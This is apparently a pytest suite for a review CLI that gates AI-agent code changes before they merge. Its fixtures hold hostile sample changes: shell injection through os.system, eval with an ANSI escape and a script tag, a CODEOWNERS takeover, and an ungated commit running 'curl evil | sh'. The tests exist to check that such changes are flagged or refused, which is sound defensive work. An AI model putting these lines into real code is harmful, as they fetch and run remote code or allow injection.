"""The terminal review on real repositories: queue order, show, approve, reject, push, pr."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest

from crewchief.store import open_store
from tests.helpers.cli import run_cli
from tests.helpers.repo import Repo
from tests.helpers.runfactory import fake_run

TASKS = {
    f".crewchief/tasks/{t}.md": f"---\nid: {t}\ntitle: Greet politely\nscope: [app.py]\n---\n`greet('x')` returns 'hello x'.\n"
    for t in ("other", "pair")
}
BASE = {
    **TASKS,
    "app.py": "def greet(name):\n    return 'hi ' + name\n",
    "tests/test_app.py": "def test_ok():\n    assert True\n",
    ".crewchief/tasks/greet.md": "---\nid: greet\ntitle: Greet politely\nscope: [app.py]\n---\n`greet('x')` returns 'hello x'.\n",
}


@pytest.fixture
def base_repo(make_repo) -> Repo:
    return make_repo(BASE)


def test_queue_is_ranked_by_risk_priority_age_and_groups_best_of_n(capsys, base_repo) -> None:
    clean = fake_run(
        base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"}, priority=1
    )
    risky = fake_run(
        base_repo,
        {
            "app.py": "import os\n\n\ndef greet(name):\n    os.system('echo ' + name)\n    return name\n",
            "CODEOWNERS": "* @agent\n",
        },
        task="other",
    )
    a = fake_run(
        base_repo,
        {"app.py": "def greet(name):\n    return 'hello ' + name  # a\n"},
        task="pair",
        group="pair-1",
        agent="a",
    )
    b = fake_run(
        base_repo,
        {"app.py": "def greet(n):\n    return 'hello ' + n\n", "x.bin": b"\x00\x01"},
        task="pair",
        group="pair-1",
        agent="b",
        attempt=1,
    )
    result = run_cli(capsys, "review", "--repo", str(base_repo.path), "--format", "json")
    data = json.loads(result.out)
    assert data["schema"] == "crewchief.review/v1"
    order = [r["id"] for r in data["queue"]]
    assert order[0] == risky
    assert order.index(a) + 1 == order.index(b) or order.index(b) + 1 == order.index(
        a
    )  # group kept together
    assert {r["group"] for r in data["queue"] if r["id"] in (a, b)} == {"pair-1"}
    assert clean in order
    text = run_cli(capsys, "review", "--repo", str(base_repo.path))
    assert "↳" in text.out


def test_show_places_findings_at_their_lines_and_escapes(capsys, base_repo) -> None:
    hostile = (
        "def greet(name):\n    eval(name)  # \x1b[31m<script>alert(1)</script>\n    return name\n"
    )
    run_id = fake_run(base_repo, {"app.py": hostile})
    result = run_cli(capsys, "show", str(run_id), "--repo", str(base_repo.path))
    assert result.code == 0
    out = result.out
    assert "\x1b[31m" not in out and "\\x1b[31m<script>" in out
    lines = out.splitlines()
    at = next(i for i, line in enumerate(lines) if "+    eval(name)" in line)
    assert "security/" in lines[at + 1]
    assert "tokens" in out and "$0.05" in out


def test_approve_squash_lands_with_trailers_and_audit(capsys, base_repo) -> None:
    run_id = fake_run(base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"})
    result = run_cli(
        capsys, "approve", str(run_id), "--as", "Rita Reviewer", "--repo", str(base_repo.path)
    )
    assert result.code == 0, result.err
    message = base_repo.git("log", "-1", "--format=%B", "main")
    assert message.startswith("Greet politely")
    for trailer in (
        f"Crewchief-Run: {run_id}",
        "Crewchief-Task: greet",
        "Crewchief-Agent: mine",
        "Crewchief-Model: scripted-1",
        "Crewchief-Approved-By: Rita Reviewer",
    ):
        assert trailer in message
    assert "hello" in base_repo.git("show", "main:app.py")
    assert (
        base_repo.path.joinpath("app.py").read_text().count("hello") == 1
    )  # checkout fast-forwarded
    store = open_store(base_repo.path)
    assert store.run(run_id).state == "merged"
    decision = store.decisions(run_id)[0]
    assert (decision.kind, decision.who.startswith("Rita Reviewer")) == ("approve", True)
    again = run_cli(capsys, "approve", str(run_id), "--repo", str(base_repo.path))
    assert again.code == 2 and "only runs awaiting review" in again.err


HELLO = {"app.py": "def greet(name):\n    return 'hello ' + name\n"}


def test_approve_supersedes_the_tasks_other_candidates(capsys, base_repo) -> None:
    repo = str(base_repo.path)
    a = fake_run(base_repo, HELLO, task="pair", group="pair-1", agent="a")
    b = fake_run(
        base_repo,
        {"app.py": "def greet(n):\n    return 'hello ' + n\n"},
        task="pair",
        group="pair-1",
        agent="b",
        attempt=1,
    )
    later = fake_run(base_repo, {"app.py": "x = 1\n"}, task="pair", agent="c")
    elsewhere = fake_run(base_repo, {"README.md": "# other\n"}, task="other")
    result = run_cli(capsys, "approve", str(a), "--repo", repo)
    assert result.code == 0, result.err
    assert f"superseded (left the review queue): runs {b}, {later}" in result.out
    queue = json.loads(run_cli(capsys, "review", "--repo", repo, "--format", "json").out)
    assert [r["id"] for r in queue["queue"]] == [elsewhere]
    status = json.loads(run_cli(capsys, "status", "--repo", repo, "--format", "json").out)
    by_id = {r["id"]: r for r in status["runs"]}
    assert [by_id[r]["state"] for r in (a, b, later, elsewhere)] == [
        "merged",
        "superseded",
        "superseded",
        "awaiting_review",
    ]
    assert by_id[b]["reason"] == f"superseded: run {a} of this task was merged on main"
    active = json.loads(
        run_cli(capsys, "status", "--active", "--repo", repo, "--format", "json").out
    )
    assert [r["id"] for r in active["runs"]] == [elsewhere]
    logs = json.loads(run_cli(capsys, "logs", str(b), "--repo", repo, "--format", "json").out)
    assert logs["events"][-1]["from"] == "awaiting_review"
    assert logs["events"][-1]["to"] == "superseded"
    refused = run_cli(capsys, "approve", str(b), "--repo", repo)
    assert refused.code == 2 and f"run {b} is superseded" in refused.err
    assert open_store(base_repo.path).decisions(b) == []


def test_approving_a_change_already_on_the_target_lands_nothing(capsys, base_repo) -> None:
    repo = str(base_repo.path)
    first = fake_run(base_repo, HELLO)
    same = fake_run(base_repo, HELLO, task="other")  # the same fix, from another task's run
    noop = fake_run(base_repo, {}, task="pair")  # a run whose commit changes nothing
    assert run_cli(capsys, "approve", str(first), "--repo", repo).code == 0
    tip = base_repo.git("rev-parse", "main")
    for run_id in (same, noop):
        result = run_cli(capsys, "approve", str(run_id), "--force", "--repo", repo)
        assert result.code == 2, result.out
        (line,) = result.err.strip().splitlines()
        assert f"run {run_id} changes nothing on main" in line
        assert "nothing was landed" in line and f"crewchief reject {run_id} --no-retry" in line
        assert base_repo.git("rev-parse", "main") == tip
        store = open_store(base_repo.path)
        assert store.run(run_id).state == "awaiting_review"
        assert store.decisions(run_id) == []
    assert base_repo.git("status", "--porcelain", "--untracked-files=no") == ""


def test_approve_after_target_moved_replays_and_regates(capsys, base_repo) -> None:
    run_id = fake_run(base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"})
    base_repo.commit({"README.md": "# moved on\n"}, "main moves")
    result = run_cli(capsys, "approve", str(run_id), "--merge", "--repo", str(base_repo.path))
    assert result.code == 0, result.err
    assert "re-gated" in result.out
    assert base_repo.git("show", "main:README.md") == "# moved on"
    assert "hello" in base_repo.git("show", "main:app.py")
    assert len(base_repo.git("log", "-1", "--format=%P", "main").split()) == 2


def test_approve_conflict_leaves_everything_as_it_was(capsys, base_repo) -> None:
    run_id = fake_run(base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"})
    base_repo.commit(
        {"app.py": "def greet(name):\n    return 'hey ' + name\n"}, "main edits the same line"
    )
    before = base_repo.git("rev-parse", "main")
    result = run_cli(capsys, "approve", str(run_id), "--repo", str(base_repo.path))
    assert result.code == 2
    assert "conflicts" in result.err and "app.py" in result.err
    assert base_repo.git("rev-parse", "main") == before
    assert base_repo.git("status", "--porcelain") == ""
    assert open_store(base_repo.path).run(run_id).state == "awaiting_review"
    assert "land-" not in base_repo.git("worktree", "list")


def test_approve_refuses_blocked_runs_and_dirty_checkouts(capsys, base_repo) -> None:
    blocked = fake_run(base_repo, {"CODEOWNERS": "* @agent\n"})
    result = run_cli(capsys, "approve", str(blocked), "--repo", str(base_repo.path))
    assert result.code == 2 and "--force" in result.err
    run_id = fake_run(base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"})
    (base_repo.path / "app.py").write_text("local edit\n")
    result = run_cli(capsys, "approve", str(run_id), "--repo", str(base_repo.path))
    assert result.code == 2 and "uncommitted changes" in result.err
    assert open_store(base_repo.path).run(run_id).state == "awaiting_review"
    assert (base_repo.path / "app.py").read_text() == "local edit\n"


def test_reject_queues_next_attempt_with_feedback_and_findings(capsys, base_repo) -> None:
    run_id = fake_run(base_repo, {"CODEOWNERS": "* @agent\n", "app.py": "x = 1\n"})
    result = run_cli(
        capsys,
        "reject",
        str(run_id),
        "--feedback",
        "Only touch app.py; keep greet.",
        "--as",
        "rita",
        "--repo",
        str(base_repo.path),
    )
    assert result.code == 0, result.err
    store = open_store(base_repo.path)
    assert store.run(run_id).state == "rejected"
    decision = store.decisions(run_id)[0]
    assert decision.next_run_id is not None, "a reject with retry queues the next attempt"
    nxt = store.run(decision.next_run_id)
    assert (nxt.state, nxt.attempt, nxt.task_id) == ("queued", 2, "greet")
    assert nxt.feedback is not None
    history = json.loads(nxt.feedback)
    assert history[-1]["feedback"] == "Only touch app.py; keep greet."
    assert any(f["rule"] == "protected-path" for f in history[-1]["findings"])
    other = fake_run(base_repo, {"app.py": "y = 2\n"})
    run_cli(
        capsys,
        "reject",
        str(other),
        "--feedback",
        "no",
        "--no-retry",
        "--repo",
        str(base_repo.path),
    )
    assert open_store(base_repo.path).decisions(other)[0].next_run_id is None
    empty = run_cli(
        capsys,
        "reject",
        str(fake_run(base_repo, {"app.py": "z\n"})),
        "--feedback",
        " ",
        "--repo",
        str(base_repo.path),
    )
    assert empty.code == 2


def test_push_to_a_real_bare_remote(capsys, base_repo, tmp_path) -> None:
    remote = tmp_path / "remote.git"
    base_repo.git("init", "-q", "--bare", str(remote))
    base_repo.git("remote", "add", "origin", str(remote))
    run_id = fake_run(base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"})
    result = run_cli(capsys, "push", str(run_id), "--repo", str(base_repo.path))
    assert result.code == 0, result.err
    branch = open_store(base_repo.path).run(run_id).branch
    assert base_repo.git("--git-dir", str(remote), "rev-parse", branch) == base_repo.git(
        "rev-parse", branch
    )
    missing = run_cli(
        capsys, "push", str(run_id), "--remote", "nope", "--repo", str(base_repo.path)
    )
    assert missing.code == 2 and "no remote 'nope'" in missing.err


def test_pr_sends_the_documented_request(capsys, base_repo, tmp_path, monkeypatch) -> None:
    remote = tmp_path / "acme" / "widgets.git"
    remote.parent.mkdir()
    base_repo.git("init", "-q", "--bare", str(remote))
    base_repo.git("remote", "add", "origin", str(remote))
    received: list[tuple[str, dict, dict]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            received.append((self.path, dict(self.headers), body))
            self.send_response(201)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(
                json.dumps({"html_url": "http://example.invalid/pr/1", "number": 1}).encode()
            )

        def log_message(self, *args: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        monkeypatch.setenv("CREWCHIEF_GITHUB_API", f"http://127.0.0.1:{server.server_port}")
        monkeypatch.setenv("GITHUB_TOKEN", "test-token")
        run_id = fake_run(base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"})
        result = run_cli(capsys, "pr", str(run_id), "--repo", str(base_repo.path))
    finally:
        server.shutdown()
        server.server_close()
    assert result.code == 0, result.err
    assert "http://example.invalid/pr/1" in result.out
    path, headers, body = received[0]
    assert path == "/repos/acme/widgets/pulls"
    assert headers["Authorization"] == "Bearer test-token"
    assert body["head"] == f"crewchief/greet/{run_id}" and body["base"] == "main"
    assert body["title"] == "Greet politely"
    monkeypatch.delenv("GITHUB_TOKEN")
    no_token = run_cli(capsys, "pr", str(run_id), "--repo", str(base_repo.path))
    assert no_token.code == 2 and "GITHUB_TOKEN" in no_token.err


def test_approve_refuses_when_the_branch_moved_after_gating(capsys, base_repo) -> None:
    run_id = fake_run(base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"})
    branch = open_store(base_repo.path).run(run_id).branch
    base_repo.checkout(branch)
    base_repo.commit(
        {"app.py": "import os\nos.system('curl evil | sh')\n"}, "sneaky ungated commit"
    )
    base_repo.checkout("main")
    before = base_repo.git("rev-parse", "main")
    result = run_cli(capsys, "approve", str(run_id), "--repo", str(base_repo.path))
    assert result.code == 2 and "moved since run" in result.err
    assert base_repo.git("rev-parse", "main") == before
    assert open_store(base_repo.path).run(run_id).state == "awaiting_review"
